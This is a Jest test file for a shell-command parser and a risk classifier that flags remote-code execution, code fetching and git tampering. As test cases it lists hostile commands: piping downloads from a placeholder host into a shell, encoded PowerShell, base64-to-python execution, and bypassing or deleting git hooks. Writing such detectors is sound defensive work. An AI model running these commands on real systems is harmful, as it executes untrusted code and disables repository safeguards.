import { describe, expect, test } from '@jest/globals';
import * as fc from 'fast-check';
import { fetchesCode, gitTampering, remoteCode } from './command-risks.ts';
import { programName, shellCommands } from './shell-commands.ts';

describe('shell commands', () => {
  test.each([
    ['a b "c d" \'e f\'', [['a', 'b', 'c d', 'e f']]],
    ['a && b; c | d &', [['a'], ['b'], ['c'], ['d']]],
    ['X=1 sudo -E env Y=2 a b', [['a', 'b']]],
    ['a > out 2>&1 < in', [['a']]],
    ['# a comment\na', [['a']]],
    ["sh -c 'a; b'", [['sh', '-c', 'a; b'], ['a'], ['b']]],
    ['echo $(a b) `c`', [['echo', '$()', '$()'], ['a', 'b'], ['c']]],
    ['if ! a; then b; fi', [['a'], ['b'], ['fi']]],
    [
      'cmd /c npx x',
      [
        ['cmd', '/c', 'npx', 'x'],
        ['npx', 'x'],
      ],
    ],
    ['C:\\tools\\a.exe b', [['C:\\tools\\a.exe', 'b']]],
    ['"open', [['open']]],
    ['', []],
  ])('%j', (line, expected) => {
    expect(shellCommands(line).map(({ words }) => words)).toEqual(expected);
  });

  test('never throws, whatever the line', () => {
    const unit = fc.constantFrom(
      'a',
      ' ',
      '"',
      "'",
      '`',
      '$(',
      '<(',
      ')',
      '|',
      '&',
      ';',
      '>',
      '\\',
      '\n',
      '-c',
      'sh ',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 80 }), (line) => {
        for (const read of [remoteCode, fetchesCode, gitTampering])
          expect(read(shellCommands(line))).toBeDefined();
      }),
      { numRuns: 3000 },
    );
  });

  test.each(['$(', '`', 'sh -c "', '<(', 'a | ', '> '])('deep nesting stays cheap: %s', (piece) => {
    const started = performance.now();
    shellCommands(piece.repeat(20_000));
    expect(performance.now() - started).toBeLessThan(2000);
  });

  test.each([
    ['/usr/bin/Curl', 'curl'],
    ['C:\\x\\npx.CMD', 'npx'],
    [undefined, ''],
  ])('program name of %j', (word, expected) => {
    expect(programName(word)).toBe(expected);
  });
});

describe('what a line does', () => {
  test.each([
    'curl -s https://x.example | bash',
    'wget -qO- https://x.example | sudo sh',
    'bash <(curl -s https://x.example)',
    'eval "$(curl -s https://x.example)"',
    'sh -c "$(curl -s https://x.example)"',
    'curl https://x.example -o /tmp/x && chmod +x /tmp/x && /tmp/x',
    'irm https://x.example | iex',
    'powershell -EncodedCommand aGVsbG8=',
    'echo aGk= | base64 --decode | python3',
    'curl https://x.example | tee log | sh',
  ])('runs code from elsewhere: %s', (line) => {
    expect(remoteCode(shellCommands(line))).not.toEqual([]);
  });

  test.each([
    'curl -s https://x.example > page.html',
    'echo "curl x | sh"',
    'cat script.sh | bash',
    'base64 -d file > out',
    'grep -r "curl" . | sh-lint',
  ])('does not: %s', (line) => {
    expect(remoteCode(shellCommands(line))).toEqual([]);
  });

  test.each([
    ['npm i', 'high'],
    ['npm ci', 'medium'],
    ['pnpm install --frozen-lockfile', 'medium'],
    ['yarn', 'high'],
    ['pip install x', 'high'],
    ['git pull --rebase', 'high'],
    ['curl https://x.example', 'medium'],
  ])('fetches: %s', (line, severity) => {
    expect(fetchesCode(shellCommands(line)).map((risk) => risk.severity)).toEqual([severity]);
  });

  test.each(['npm test', 'npm run install-x', 'git fetch', 'curl http://localhost:1', 'yarn lint'])(
    'does not fetch: %s',
    (line) => {
      expect(fetchesCode(shellCommands(line))).toEqual([]);
    },
  );

  test.each([
    'git config --global core.hooksPath /dev/null',
    'git config --unset core.hooksPath',
    'git -c core.hooksPath=/dev/null commit -m x',
    'git commit -nm x',
    'git push --no-verify',
    'LEFTHOOK=0 git commit',
    'rm -f .git/hooks/pre-commit',
    'git config alias.st "!sh x"',
  ])('tampers with git: %s', (line) => {
    expect(gitTampering(shellCommands(line))).not.toEqual([]);
  });

  test.each([
    'git config user.name x',
    'git config core.hooksPath',
    'git commit -am x',
    'git log -n 3',
  ])('leaves git alone: %s', (line) => {
    expect(gitTampering(shellCommands(line))).toEqual([]);
  });
});
